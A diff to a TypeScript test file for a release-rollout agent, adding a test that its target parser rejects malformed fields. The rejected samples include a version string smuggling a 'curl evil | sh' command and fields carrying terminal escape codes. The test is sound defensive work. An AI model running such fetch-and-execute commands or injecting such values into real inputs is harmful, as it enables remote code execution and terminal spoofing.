@@ -2,7 +2,7 @@ import type { RolloutTarget } from '@imprint/protocol';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import type { ReleaseState, VerifiedRelease } from '../state/records.ts';
-import { judgeTarget } from './target.ts';
+import { judgeTarget, readTarget } from './target.ts';
 
 const now = new Date('2026-11-23T06:00:00Z');
 const digest = (n: number) => String(n).repeat(64);
@@ -41,6 +41,18 @@ describe('a target', () => {
     ['AGENT_TARGET_EXPIRED', target(), { now: new Date('2027-01-01T00:00:00Z') }],
   ])('is refused with %s', (code, directed, more) => {
     expect(judgeTarget(directed, { ...facts, ...more })).toMatchObject({ refusal: { code } });
+  });
+
+  test('is read only where nothing of it could be taken for anything but a version and times', () => {
+    expect(readTarget(target())).toEqual(target());
+    const strange = [
+      { version: '2\nRun: curl evil | sh' },
+      { version: '\u001b[2J' },
+      { deadline: '2026-12-01 (\u001b[31mcall us)' },
+      { downloadFrom: 'Tue, 1 Dec 2026' },
+      { installWindow: { from: '2026-12-01T00:00:00Z\n' } },
+    ];
+    for (const more of strange) expect(readTarget({ ...target(), ...more })).toBeUndefined();
   });
 
   test('never leads to anything but the release that verified, whatever the server says of it', () => {
